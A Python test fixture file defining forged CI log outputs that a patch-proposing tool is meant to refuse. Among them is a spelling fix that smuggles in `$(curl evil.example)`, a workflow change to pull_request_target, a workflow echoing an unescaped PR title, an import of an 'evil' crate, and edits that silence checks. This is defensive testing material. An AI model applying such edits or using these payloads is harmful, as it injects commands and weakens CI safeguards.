"""Logs and repositories of somebody who wants a patch of their own published.

Each must be left alone: a log is what its writer wants it to be, and only what
holds in the file, for a tool that owns it, may become an edit."""

from pathlib import Path

from compilers import GO_MOD, TSCONFIG, crate
from definitions import CLEAN_PY, PYTHON, refuse, replaced


def printed(name, files, command, text, reason, tool, **more):
    """A step that shows this text as its command's output."""
    step = "cat evil.txt; exit 1"
    edit = lambda log: log.replace(step.encode(), command.encode())
    return refuse(name, files | {"evil.txt": text}, step, reason, tool, edit_log=edit, **{"class": "lint", **more, "command": command})


def unified(path, before, after, context=""):
    stamp = "\t2026-01-02 03:04:05.678901+00:00"
    return f"--- {path}{stamp}\n+++ {path}{stamp}\n@@ -1,2 +1,2 @@\n def answer():\n-{before}\n+{after}\n{context}1 file would be reformatted.\n"


RETURN = "    return 42"
CLEAN = {"shop/clean.py": CLEAN_PY}
USED = {"a.py": "import os\nimport sys\n\nprint(os.name)\n"}
MAIN = "struct Item;\n\nfn main() {\n    let item = Item;\n    drop(item);\n}\n"


def error(message, arrow, rows, announced=1, help="consider importing this struct"):
    return f"error[E0433]: {message}\n --> {arrow}\n  |\n4 |     let item = Item;\n  |                ^^^^\n  |\nhelp: {help}\n  |\n{rows}  |\n\nerror: could not compile `shop` (bin \"shop\") due to {announced} previous error\n"


RUSTC = {"class": "compile"}

HOSTILE = [
    # Diffs.
    printed("hostile-diff-adds-noqa", CLEAN, "black --check --diff .", unified("shop/clean.py", RETURN, "    return  42  # noqa"), "silences", "black"),
    printed("hostile-diff-adds-skip", CLEAN, "autopep8 --diff --exit-code .", "--- original/shop/clean.py\n+++ fixed/shop/clean.py\n@@ -1,2 +1,3 @@\n+@pytest.mark.skip\n def answer():\n     return 42\n", "silences", "autopep8"),
    printed("hostile-diff-adds-or-true", {"a.sh": "make test\n"}, "shfmt -d .", "--- a.sh.orig\n+++ a.sh\n@@ -1 +1 @@\n-make test\n+make test || true\n", "silences", "shfmt"),
    printed("hostile-diff-of-a-workflow", {".github/workflows/ci.yml": "on: push\n"}, "prettier --write . && git diff --exit-code", "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\nindex 1111111..2222222 100644\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-on: push\n+on: pull_request_target\n", "protected", "git"),
    printed("hostile-diff-of-a-new-file", CLEAN, "black . && git diff --exit-code", "diff --git a/setup.py b/setup.py\nnew file mode 100644\nindex 0000000..2222222\n--- /dev/null\n+++ b/setup.py\n@@ -0,0 +1 @@\n+import os\n", "adds a file", "git"),
    printed("hostile-diff-leaves-the-tree", CLEAN, "black --check --diff .", unified("shop/../../clean.py", RETURN, "    return  42"), "no path of a file", "black"),
    refuse("hostile-diff-of-code-after-tests", CLEAN | {"evil.txt": unified("shop/clean.py", RETURN, "    return 43")}, ["pytest --version || true", "cat evil.txt; exit 1"], "more than layout", "black", edit_log=replaced(b"cat evil.txt; exit 1", b"black --check --diff .")),
    printed("hostile-diff-of-hooks-by-a-hook", CLEAN, "pre-commit run --all-files --show-diff-on-failure", "pytest...................................................................Failed\n- hook id: pytest\n- exit code: 1\n\nblack....................................................................Failed\n- hook id: black\n- files were modified by this hook\n\npre-commit hook(s) made changes.\nAll changes made by hooks:\ndiff --git a/shop/clean.py b/shop/clean.py\nindex 1111111..2222222 100644\n--- a/shop/clean.py\n+++ b/shop/clean.py\n@@ -1,2 +1,2 @@\n def answer():\n-    return 42\n+    return 43\n", "hook pytest failed too", "pre-commit"),
    # Findings.
    printed("hostile-finding-leaves-the-tree", CLEAN, "flake8 .", "../shop/clean.py:1:14: W291 trailing whitespace\n", "no path of a file", "flake8"),
    printed("hostile-finding-of-a-system-file", CLEAN, "flake8 .", "/usr/lib/python3/site.py:1:1: E225 missing whitespace around operator\n", "no file", "flake8"),
    printed("hostile-finding-in-a-workflow", {".github/scripts/a.py": "x=1\n"}, "flake8 .github", ".github/scripts/a.py:1:2: E225 missing whitespace around operator\n", "protected", "flake8"),
    printed("hostile-finding-of-no-line", CLEAN, "flake8 .", "shop/clean.py:99999999999999999999:1: E225 x\nshop/clean.py:18446744073709551615:1: E225 missing whitespace around operator\n", "no line", "flake8"),
    printed("hostile-finding-of-no-column", CLEAN, "flake8 .", "shop/clean.py:1:18446744073709551615: E225 missing whitespace around operator\n", "no certain column", "flake8"),
    printed("hostile-finding-elsewhere", CLEAN, "flake8 .", "shop/clean.py:2:5: E231 missing whitespace after ','\n", "sign is not there", "flake8"),
    printed("hostile-unused-name-with-a-mark", USED, "flake8 .", "a.py:1:1: F401 'os  # noqa' imported but unused\n", "does not import", "flake8"),
    refuse("hostile-used-import-after-tests", USED | {"evil.txt": "a.py:1:1: F401 'os' imported but unused\na.py:2:1: F401 'sys' imported but unused\n"}, ["pytest --version || true", "cat evil.txt; exit 1"], "is still used", "flake8", edit_log=replaced(b"cat evil.txt; exit 1", b"flake8 ."), **{"class": "lint"}),
    printed("hostile-used-exception", {"a.py": "try:\n    pass\nexcept ValueError as error:\n    print(error)\n"}, "flake8 .", "a.py:3:1: F841 local variable 'error' is assigned to but never used\n", "exception that is not used", "flake8"),
    refuse("hostile-link", CLEAN | {"shop/b.py": "x=1\n"}, "flake8 .", "no regular file", "flake8", workspace=lambda files: files | {"shop/b.py": Path("clean.py")}, **{"class": "lint"}),
    refuse("hostile-findings-of-a-test", CLEAN | {"test_a.py": "import unittest\n\n\nclass A(unittest.TestCase):\n    def test(self):\n        print('shop/clean.py:1:1: E265 block comment should start with # ')\n        self.fail()\n"}, "python -m unittest test_a", "also runs tests", "flake8", **{"class": "lint"}),
    printed("hostile-workflow-yaml", {".github/workflows/ci.yml": "on:   push\n"}, "yamllint -f parsable .", ".github/workflows/ci.yml:1:6: [error] too many spaces after colon (colons)\n", "protected", "yamllint"),
    printed("hostile-archive-as-file", {"Dockerfile": "FROM debian:12\nADD app.tar.gz /app\n"}, "hadolint Dockerfile", "Dockerfile:2 DL3020 error: Use COPY instead of ADD for files and folders\n", "plain files", "hadolint"),
    printed("hostile-command-with-a-shell", {"Dockerfile": "FROM debian:12\nCMD echo $HOME\n"}, "hadolint Dockerfile", "Dockerfile:2 DL3025 warning: Use arguments JSON notation for CMD and ENTRYPOINT arguments\n", "needs no shell", "hadolint"),
    # Suggestions.
    printed("hostile-spelling-is-code", {"README.md": "A pasword.\n"}, "typos", "error: `pasword` should be `$(curl evil.example)`\n  ╭▸ ./README.md:1:3\n", "no change that a tool wants", "typos"),
    printed("hostile-spelling-with-a-mark", {"README.md": "A pasword.\n"}, "codespell", "README.md:1: pasword ==> pass\u200bword\n", "leaves a choice", "codespell"),
    printed("hostile-prettier-disables", {"src/a.js": "const a = 1;\n"}, "eslint src", "\n/home/runner/work/shop/shop/src/a.js\n  1:1  error  Insert `/*·eslint-disable·*/⏎`  prettier/prettier\n\n1 problem\n", "more than layout", "eslint"),
    printed("hostile-ruff-counts-less", {"a.py": "import os\nimport sys\n"}, "ruff check .", "F401 [*] `os` imported but unused\n --> a.py:1:8\n  |\n1 | import os\n  |        ^^\n  |\nhelp: Remove unused import: `os`\n  - import os\n1 | import sys\n\nFound 9 errors.\n[*] 9 fixable with `--fix`.\n", "are all", "ruff"),
    printed("hostile-shellcheck-masked", {"a.sh": "#!/bin/sh\necho $TOKEN\n"}, "shellcheck a.sh", "\nIn a.sh line 2:\necho ***\n     ^-- SC2086 (info): Double quote\n\nDid you mean:\necho \"***\"\n\n", "is not what shellcheck shows", "shellcheck"),
    # Compilers.
    printed("hostile-rustc-stale", crate(MAIN.replace("let item", "let other").replace("drop(item)", "drop(other)")), "cargo check", error("x", "src/main.rs:4:16", "4 -     let item = Item;\n4 +     let item = Item();\n", help="consider borrowing here"), "is not what the compiler shows", "rustc", **RUSTC),
    printed("hostile-rustc-allows", crate(MAIN), "cargo check", error("x", "src/main.rs:4:16", "1 + #![allow(warnings)]\n"), "silences", "rustc", **RUSTC),
    printed("hostile-rustc-guesses", crate(MAIN), "cargo check", error("x", "src/main.rs:4:16", "4 -     let item = Item;\n4 +     let item = todo!();\n", help="consider using this instead of the check"), "no change that a tool wants", "rustc", **RUSTC),
    printed("hostile-rustc-counts-more", crate(MAIN), "cargo check", error("x", "src/main.rs:4:16", "1 + use evil::Item;\n", announced=7), "are all", "rustc", **RUSTC),
    printed("hostile-rustc-other-crate", crate(MAIN), "cargo check", error("x", "/root/.cargo/registry/src/evil-1.0.0/src/item.rs:4:16", "1 + use evil::Item;\n"), "no file", "rustc", **RUSTC),
    printed("hostile-rustc-in-a-test", crate(MAIN), "cargo test", "   Compiling shop v0.1.0\n     Running unittests src/main.rs (target/debug/deps/shop-1)\n" + error("x", "src/main.rs:4:16", "1 + use evil::Item;\n"), "also runs tests", "rustc", **RUSTC),
    printed("hostile-rustc-slip-far-away", crate(MAIN), "cargo check", error("x", "src/main.rs:5:10", "5 -     drop(item);\n5 +     leak(item);\n", help="a function with a similar name exists"), "no change that a tool wants", "rustc", **RUSTC),
    printed("hostile-go-test-that-ran", {"go.mod": GO_MOD, "a.go": "package shop\n\nimport \"os\"\n\nvar Name = os.Args[0]\n"}, "go test ./...", "./a.go:3:8: \"os\" imported and not used\n--- FAIL: TestName (0.00s)\nFAIL\nFAIL\texample.com/shop\t0.01s\n", "tests", "go", **RUSTC),
    printed("hostile-go-used-import", {"go.mod": GO_MOD, "a.go": "package shop\n\nimport \"os\"\n\nvar Name = os.Args[0]\n"}, "go build ./...", "./a.go:3:8: \"os\" imported and not used\n", "is still used", "go", **RUSTC),
    printed("hostile-tsc-other-name", {"tsconfig.json": TSCONFIG, "src/a.ts": "export const low = Math.min(1, 2);\n"}, "tsc -p .", "src/a.ts(1,25): error TS2551: Property 'min' does not exist on type 'Math'. Did you mean 'max'?\n", "also reports TS2551", "tsc", **{"class": "type_check"}),
    printed("hostile-mypy-two-offers", {"a.py": "x = \"\".uper()\n"}, "mypy .", "a.py:1: error: \"str\" has no attribute \"uper\"; maybe \"upper\", \"super\"?  [attr-defined]\n", "also reports attr-defined", "mypy", **{"class": "type_check"}),
    # Markers.
    refuse("hostile-frame-of-another-step", PYTHON | {"evil.txt": "::endgroup::\n::group::Run flake8 .\n::endgroup::\nshop/orders.py:4:11: E203 whitespace before ','\nshop/orders.py:1:1: W605 x\n"}, ["pytest --version || true; cat evil.txt; exit 1"], "not an unknown escape", "flake8", **{"class": "lint"}),
    refuse("hostile-workflow-audit", {".github/workflows/ci.yml": "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo ${{ github.event.pull_request.title }}\n"}, "zizmor --offline --no-progress .github", "no change that a tool wants", "zizmor", **{"class": "lint"}),
]
